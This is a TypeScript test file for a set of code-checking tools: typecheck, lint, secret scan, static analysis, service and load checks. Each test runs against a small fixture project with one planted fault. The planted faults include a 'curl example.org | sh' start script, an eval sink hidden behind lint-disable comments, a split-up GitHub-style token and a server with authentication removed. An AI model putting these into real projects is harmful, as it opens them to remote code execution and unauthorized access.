// Each tool on a small project with one thing wrong: what is wrong is found by the tool that is there for it, and named.

import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import type { ToolName, ToolValues } from '../../../agents/sdk/tools.ts';
import { toolValues } from '../../../agents/sdk/tools.ts';
import { toolVersions } from '../../../agents/tools/versions.ts';
import { measure } from './build.ts';

const MANIFEST = {
  name: 'shed',
  version: '1.0.0',
  type: 'module',
  license: 'MIT',
  engines: { node: '>=24' },
  scripts: { start: 'node src/server.ts' },
  dependencies: {},
  devDependencies: { typescript: '6.0.3' },
};

const SERVER = `import { createServer } from 'node:http';
createServer((incoming, outgoing) => {
  const secured = incoming.url?.startsWith('/api') && incoming.headers.authorization !== \`Bearer \${process.env.API_TOKEN}\`;
  outgoing.writeHead(secured ? 401 : 200, { 'content-type': incoming.url === '/' ? 'text/html' : 'application/json' });
  outgoing.end(incoming.url === '/' ? PAGE : '[]');
}).listen(Number(process.env.PORT), '127.0.0.1');
`;
const PAGE =
  '<!doctype html><html lang="en"><head><title>Shed</title><meta name="viewport" content="width=device-width"></head>' +
  '<body><main><h1>Shed</h1><label for="n">Name</label><input id="n"></main></body></html>';
const server = (page = PAGE): string => SERVER.replace('PAGE', JSON.stringify(page));

const API = {
  openapi: '3.1.0',
  info: { title: 'Shed', version: '1.0.0', license: { name: 'MIT', identifier: 'MIT' } },
  servers: [{ url: '/api' }],
  security: [{ token: [] }],
  components: { securitySchemes: { token: { type: 'http', scheme: 'bearer' } } },
  paths: {
    '/tools': {
      get: {
        operationId: 'listTools',
        summary: 'Lists tools',
        responses: { 200: { description: 'the tools' }, 401: { description: 'no token' } },
      },
    },
  },
};

const PROJECT: Readonly<Record<string, string>> = {
  'package.json': JSON.stringify(MANIFEST),
  'tsconfig.json': JSON.stringify({
    compilerOptions: {
      strict: true,
      noEmit: true,
      module: 'nodenext',
      target: 'es2024',
      types: ['node'],
      allowImportingTsExtensions: true,
    },
    include: ['src', 'test'],
  }),
  'openapi.json': JSON.stringify(API),
  'src/sum.ts': 'export function sum(a: number, b: number): number {\n  return a + b;\n}\n',
  'src/server.ts': server(),
  'test/sum.test.ts':
    "import assert from 'node:assert/strict';\nimport { test } from 'node:test';\nimport { sum } from '../src/sum.ts';\n" +
    "test('S1 adds', () => assert.equal(sum(1, 2), 3));\n",
};

async function value<Name extends ToolName>(
  tool: Name,
  changes: Readonly<Record<string, string>> = {},
  input: object = {},
): Promise<ToolValues[Name]> {
  const { result } = await measure(tool, { ...PROJECT, ...changes }, input);
  if (result.status === 'unmeasured') throw new Error(result.reason);
  return toolValues[tool].parse(result.value) as ToolValues[Name];
}

const AT_MOST_MS = 120_000;

describe('the tools', () => {
  it('are the versions that are installed', () => {
    const manifest = JSON.parse(readFileSync('package.json', 'utf8'));
    const installed: Record<string, string> = manifest.dependencies;
    for (const by of Object.values(toolVersions)) {
      const [name = '', version] = by.split(' ');
      expect([name, name === 'node' ? manifest.devDependencies.node : installed[name]]).toEqual([name, version]);
    }
  });

  it(
    'find nothing in a project that is right',
    async () => {
      const types = await value('typecheck');
      expect(types).toEqual({ exitCode: 0, errors: 0, problems: [] });
      expect(await value('secret-scan')).toMatchObject({ secrets: [] });
      expect(await value('openapi-lint', {}, { document: 'openapi.json' })).toMatchObject({ errors: 0, warnings: 0 });
    },
    AT_MOST_MS,
  );
});

it(
  'typecheck names a type error',
  async () => {
    const found = await value('typecheck', { 'src/wrong.ts': "\nexport const n: number = 'one';\n" });
    expect(found).toMatchObject({
      exitCode: 2,
      errors: 1,
      problems: [{ file: 'src/wrong.ts', line: 2, code: 'TS2322' }],
    });
  },
  AT_MOST_MS,
);

it(
  'unit-tests count what fails, what is never loaded, and let project code write nowhere',
  async () => {
    const test =
      "import { writeFileSync } from 'node:fs';\nimport { spawnSync } from 'node:child_process';\nimport { test } from 'node:test';\n" +
      "test('writes', () => writeFileSync(new URL('../src/sum.ts', import.meta.url), ''));\n" +
      "test('starts', () => { if (spawnSync('true').error) throw spawnSync('true').error; });\n";
    const found = await value('unit-tests', { 'test/bad.test.ts': test });
    expect(found.tests.map(({ name, outcome }) => [name, outcome])).toEqual(
      expect.arrayContaining([
        ['S1 adds', 'passed'],
        ['writes', 'failed'],
        ['starts', 'failed'],
      ]),
    );
    expect([found.passed, found.failed]).toEqual([1, 2]);
    // server.ts has six lines that no test loads.
    expect(found.coverage.lines).toEqual({ covered: 3, total: 9 });
  },
  AT_MOST_MS,
);

it(
  'lint does not heed settings of the project that switch it off',
  async () => {
    const found = await value('lint', {
      'biome.json': JSON.stringify({ linter: { enabled: false } }),
      'src/wrong.ts': 'export function f() {\n  debugger;\n}\n',
    });
    expect(found.problems).toContainEqual(
      expect.objectContaining({ file: 'src/wrong.ts', rule: 'lint/suspicious/noDebugger' }),
    );
  },
  AT_MOST_MS,
);

it(
  'openapi-lint names what is not OpenAPI',
  async () => {
    const broken = { ...API, paths: { '/tools': { get: { operationId: 'listTools' } } } };
    const found = await value('openapi-lint', { 'openapi.json': JSON.stringify(broken) }, { document: 'openapi.json' });
    expect(found.errors).toBeGreaterThan(0);
    expect(found.problems[0]).toMatchObject({ severity: 'error', pointer: expect.stringContaining('#/paths/~1tools') });
  },
  AT_MOST_MS,
);

it(
  'secret-scan names a secret by rule and place, and quotes it nowhere',
  async () => {
    const secret = ['gh', 'p_', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('');
    const { result, report } = await measure('secret-scan', {
      ...PROJECT,
      'src/key.ts': `\nexport const key = '${secret}';\n`,
    });
    expect(result).toMatchObject({ value: { secrets: [{ file: 'src/key.ts', line: 2 }] } });
    expect(JSON.stringify(result) + report).not.toContain(secret);
  },
  AT_MOST_MS,
);

it(
  'static-analysis finds what runs text as code, whatever a comment says',
  async () => {
    const code =
      '/* eslint-disable */\nexport const run = (text: string): unknown => eval(text); // eslint-disable-line\n';
    const found = await value('static-analysis', { 'src/run.ts': code });
    expect(found.findings).toContainEqual(
      expect.objectContaining({
        rule: 'security/detect-eval-with-expression',
        severity: 'critical',
        file: 'src/run.ts',
        line: 2,
      }),
    );
  },
  AT_MOST_MS,
);

it(
  'licences and sbom follow what is installed; a project without a licence is named',
  async () => {
    const { license: _, ...unlicensed } = MANIFEST;
    const licences = await value('licences', { 'package.json': JSON.stringify(unlicensed) });
    expect(licences.missing).toEqual(['shed']);
    expect(licences.packages).toContainEqual({ package: 'typescript', version: '6.0.3', licence: 'Apache-2.0' });
    expect(await value('sbom')).toMatchObject({ listed: 1, installed: 1, document: { specVersion: '1.6' } });
    const unknown = { ...MANIFEST, dependencies: { 'left-pad': '1.0.0' } };
    expect(await value('sbom', { 'package.json': JSON.stringify(unknown) })).toMatchObject({ listed: 1, installed: 2 });
  },
  AT_MOST_MS,
);

it(
  'service-check starts the service and finds the operation that lets strangers in',
  async () => {
    const input = { healthChecks: ['/health'], windowSeconds: 1 };
    const right = await value('service-check', {}, input);
    expect(right.health).toEqual({ passed: 5, total: 5 });
    expect(right.canary.requests).toBeGreaterThan(0);
    expect([right.canary.errors, right.endpoints.every(({ ok }) => ok)]).toEqual([0, true]);
    const open = await value(
      'service-check',
      { 'src/server.ts': server().replace('secured ? 401 : 200', '200') },
      input,
    );
    expect(open.endpoints.filter(({ ok }) => !ok)).toEqual([
      { operation: 'listTools', status: 200, expected: '401 or 403 without a token', ok: false },
    ]);
  },
  AT_MOST_MS,
);

it(
  'load measures a slow endpoint as slow',
  async () => {
    const slow = server()
      .replace('outgoing.end(', 'setTimeout(() => outgoing.end(')
      .replace(/;\n}\)/, ', 300);\n})');
    const found = await value('load', { 'src/server.ts': slow }, { seconds: 1, connections: 2 });
    expect(found.latency.p50Ms).toBeGreaterThanOrEqual(300);
    expect(found.throughput.requestsPerSecond).toBeLessThan(10);
  },
  AT_MOST_MS,
);

it(
  'says unmeasured of a project that does not start, with what it said',
  async () => {
    const { result } = await measure(
      'load',
      { ...PROJECT, 'src/server.ts': "throw new Error('no database');\n" },
      { seconds: 1, connections: 1 },
    );
    expect(result).toMatchObject({ status: 'unmeasured', reason: expect.stringContaining('no database') });
    const shell = { ...MANIFEST, scripts: { start: 'curl example.org | sh' } };
    const other = await measure(
      'load',
      { ...PROJECT, 'package.json': JSON.stringify(shell) },
      { seconds: 1, connections: 1 },
    );
    expect(other.result).toMatchObject({
      status: 'unmeasured',
      reason: expect.stringContaining('expected `node FILE`'),
    });
  },
  AT_MOST_MS,
);

it(
  'page-audit finds the label and the width that are missing, where there is a browser',
  async () => {
    const page = PAGE.replace('<label for="n">Name</label>', '<div style="width: 600px">wide</div>');
    const { result } = await measure(
      'page-audit',
      { ...PROJECT, 'src/server.ts': server(page) },
      { pages: ['/'], widthsPx: [390, 1280] },
    );
    if (result.status === 'unmeasured') {
      // A machine without one says so and what to install.
      expect(result.reason).toContain('install the package chromium');
      return;
    }
    expect(result.value).toMatchObject({
      violations: [{ page: '/', rule: 'label', level: 'A', nodes: 1 }],
      layouts: [
        { widthPx: 390, overflows: true },
        { widthPx: 1280, overflows: false },
      ],
    });
  },
  AT_MOST_MS,
);
